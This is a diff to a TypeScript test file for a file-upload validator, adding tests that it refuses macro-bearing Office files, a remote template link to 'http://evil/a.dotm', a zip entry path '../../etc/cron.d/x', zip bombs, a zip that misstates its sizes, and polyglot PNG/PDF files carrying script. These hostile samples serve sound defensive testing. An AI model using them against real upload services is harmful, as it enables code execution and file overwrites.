@@ -4,6 +4,8 @@ import { Readable } from "node:stream";
 import { test } from "node:test";
 import { AppError } from "#kit/errors.ts";
 import type { BlobStore } from "#kit/files.ts";
+import { zipSync } from "fflate";
+import { PDF } from "#tests/support/filing-walk.ts";
 import { storeUpload, UPLOAD_MAX_BYTES } from "./upload-file.ts";
 
 /** A store in memory with the disk's rules. */
@@ -11,15 +13,17 @@ function memoryStore(): BlobStore & { readonly kept: Map<string, Buffer> } {
   const kept = new Map<string, Buffer>();
   return {
     kept,
-    async put(content) {
+    async put(content, limits) {
       const parts: Buffer[] = [];
       for await (const part of content instanceof Uint8Array ? [content] : content)
         parts.push(Buffer.from(part as Uint8Array));
       const bytes = Buffer.concat(parts);
       if (bytes.length === 0) throw new AppError("invalid", { reason: "file-empty" });
       const sha256 = createHash("sha256").update(bytes).digest("hex");
+      const file = { sha256, size: bytes.length, head: bytes.subarray(0, 4_100) };
+      await limits.check?.({ ...file, read: async () => bytes });
       kept.set(sha256, bytes);
-      return { sha256, size: bytes.length, head: bytes.subarray(0, 4_100) };
+      return file;
     },
     open: () => Promise.reject(new Error("not used")),
     read: async (sha256) => kept.get(sha256) ?? Buffer.alloc(0),
@@ -32,12 +36,15 @@ async function problemOf(name: string, bytes: Buffer): Promise<string> {
   return upload.ok ? "taken" : upload.problem;
 }
 
-/** As a zip lists its names: enough for what is looked at. */
-function office(...names: string[]): Buffer {
-  const local = Buffer.from([0x50, 0x4b, 0x03, 0x04, 20, 0, 0, 0, 0, 0]);
-  const end = Buffer.concat([Buffer.from([0x50, 0x4b, 0x05, 0x06]), Buffer.alloc(18)]);
-  return Buffer.concat([local, Buffer.alloc(16), Buffer.from([0, 0, 0, 0]), Buffer.from(names.join("\0")), end]);
+const text = (value: string): Uint8Array => new TextEncoder().encode(value);
+const TYPES = text("<?xml version='1.0'?><Types/>");
+
+/** A real container with these parts. */
+function office(parts: Record<string, Uint8Array>): Buffer {
+  return Buffer.from(zipSync(parts, { level: 9 }));
 }
+const docx = (more: Record<string, Uint8Array> = {}): Buffer =>
+  office({ "[Content_Types].xml": TYPES, "word/document.xml": text("<w:document/>"), ...more });
 
 const png = Buffer.from(
   "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
@@ -56,14 +63,76 @@ test("a small file that would unfold into gigabytes of pixels is refused before 
   assert.equal(await problemOf("ảnh.png", bomb), "pixels");
 });
 
-test("a Word file is taken by what is inside, not by its name, and never with macros", async () => {
-  assert.equal(await problemOf("đơn.docx", office("[Content_Types].xml", "word/document.xml")), "taken");
-  assert.equal(await problemOf("đơn.docx", office("[Content_Types].xml", "xl/workbook.xml")), "content");
-  assert.equal(await problemOf("đơn.docx", office("readme.txt")), "content");
+test("an Office file is taken by what is inside, not by its name, and never with macros or what is fetched from elsewhere", async () => {
+  assert.equal(await problemOf("đơn.docx", docx()), "taken");
+  const odt = { mimetype: text("application/vnd.oasis.opendocument.text"), "content.xml": text("<office/>") };
+  assert.equal(await problemOf("đơn.odt", office(odt)), "taken");
+  assert.equal(await problemOf("bảng.ods", office(odt)), "content");
   assert.equal(
-    await problemOf("đơn.docx", office("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")),
+    await problemOf("đơn.docx", office({ "[Content_Types].xml": TYPES, "xl/workbook.xml": TYPES })),
+    "content",
+  );
+  assert.equal(await problemOf("đơn.docx", office({ "readme.txt": text("x") })), "content");
+  assert.equal(await problemOf("đơn.docx", docx({ "word/vbaProject.bin": text("x") })), "active");
+  assert.equal(await problemOf("đơn.odt", office({ ...odt, "Basic/Standard/a.xml": text("<a/>") })), "active");
+  assert.equal(
+    await problemOf("đơn.docx", docx({ "word/a.xml": text('<!DOCTYPE a [<!ENTITY b "c">]><a/>') })),
     "active",
   );
+  const template = `<Relationships><Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil/a.dotm" TargetMode="External"/></Relationships>`;
+  assert.equal(await problemOf("đơn.docx", docx({ "word/_rels/settings.xml.rels": text(template) })), "active");
+  const link = template.replace("attachedTemplate", "hyperlink");
+  assert.equal(await problemOf("đơn.docx", docx({ "word/_rels/document.xml.rels": text(link) })), "taken");
+  assert.equal(await problemOf("đơn.doc", oldOffice("_VBA_PROJECT")), "active");
+  assert.equal(await problemOf("đơn.doc", oldOffice("EncryptedPackage")), "encrypted");
+});
+
+/** As OLE containers begin, with the name of a stream in them. */
+function oldOffice(stream: string): Buffer {
+  const bytes = Buffer.alloc(2_048);
+  Buffer.from("d0cf11e0a1b11ae1", "hex").copy(bytes);
+  Buffer.from(stream, "utf16le").copy(bytes, 1_024);
+  return bytes;
+}
+
+test("containers that would fill a disk or write outside it are refused without being unpacked whole", async () => {
+  assert.equal(await problemOf("bom.docx", docx({ "word/a.bin": new Uint8Array(30_000_000) })), "bomb");
+  const crowd = Object.fromEntries(Array.from({ length: 2_100 }, (_, index) => [`word/${index}.xml`, text("")]));
+  assert.equal(await problemOf("đông.docx", docx(crowd)), "bomb");
+  assert.equal(await problemOf("ra.docx", docx({ "../../etc/cron.d/x": text("x") })), "content");
+  // The directory says a few bytes; what is packed unfolds to megabytes.
+  const liar = docx({ "word/a.bin": new Uint8Array(900_000) });
+  const size = Buffer.alloc(4);
+  size.writeUInt32LE(900_000);
+  const small = Buffer.alloc(4);
+  small.writeUInt32LE(100);
+  for (let at = liar.indexOf(size); at >= 0; at = liar.indexOf(size, at + 1)) small.copy(liar, at);
+  assert.equal(await problemOf("dối.docx", liar), "bomb");
+  assert.equal(await problemOf("cụt.docx", docx().subarray(0, -10)), "broken");
+  assert.equal(await problemOf("thêm.docx", Buffer.concat([docx(), Buffer.from("<script>1</script>")])), "broken");
+  assert.equal(await problemOf("trước.docx", Buffer.concat([docx().subarray(0, 40), docx()])), "broken");
+});
+
+test("a file that is two kinds at once is refused: picture and archive, picture and page, PDF and page", async () => {
+  assert.equal(await problemOf("ảnh.png", Buffer.concat([png, docx()])), "mixed");
+  assert.equal(await problemOf("ảnh.png", Buffer.concat([png, Buffer.from("<script>alert(1)</script>")])), "mixed");
+  assert.equal(await problemOf("đơn.pdf", Buffer.concat([PDF, Buffer.from("<html><body>")])), "mixed");
+  assert.equal(await problemOf("đơn.pdf", Buffer.concat([PDF, docx()])), "mixed");
+  assert.equal(await problemOf("đơn.pdf", Buffer.concat([Buffer.from("GIF89a"), PDF])), "content");
+  assert.equal(await problemOf("đơn.pdf", PDF), "taken");
+});
+
+test("a photo in HEIC gets the hint that helps, and a paper that was changed on its way is not kept", async () => {
+  assert.equal(await problemOf("IMG_0001.HEIC", Buffer.from("\0\0\0\x18ftypheic".padEnd(600, "x"), "latin1")), "heic");
+  const store = memoryStore();
+  const noted: string[] = [];
+  const note = async (sha256: string) => void noted.push(sha256);
+  const other = createHash("sha256").update("khác").digest("hex");
+  const changed = await storeUpload(store, "ảnh.png", Readable.from([png]), { sha256: other, note });
+  assert.deepEqual([changed.ok, store.kept.size, noted], [false, 0, []]);
+  const sha256 = createHash("sha256").update(png).digest("hex");
+  assert.equal((await storeUpload(store, "ảnh.png", Readable.from([png]), { sha256, note })).ok, true);
+  assert.deepEqual(noted, [sha256]);
 });
 
 test("a program is refused whatever it is called, and a page never passes as a document", async () => {
